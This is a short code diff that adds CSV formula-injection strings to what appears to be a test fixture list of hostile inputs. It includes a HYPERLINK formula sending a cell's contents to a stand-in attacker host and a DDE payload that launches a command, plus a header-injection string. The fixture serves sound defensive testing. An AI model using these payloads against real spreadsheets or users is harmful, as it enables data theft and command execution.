@@ -65,6 +65,15 @@ export const HostileStrings = [
   '𝕏𝕏𝕏🙂👩‍👩‍👧‍👦',
   'ｆｕｌｌｗｉｄｔｈ日本語テキスト中文繁體',
   '\r\nSet-Cookie: x=1',
+  // Formulas a spreadsheet would run from a CSV cell (OWASP CSV injection).
+  '=HYPERLINK("http://attacker.example/?"&A1,"Help")',
+  "=cmd|' /C calc'!A0",
+  '+1+1',
+  '-2+3',
+  '@SUM(1,1)',
+  '\t=1+1',
+  '\r=1+1',
+  '\uFF1D1+1',
   '%E0%A4%A',
   'a'.repeat(300),
 ];
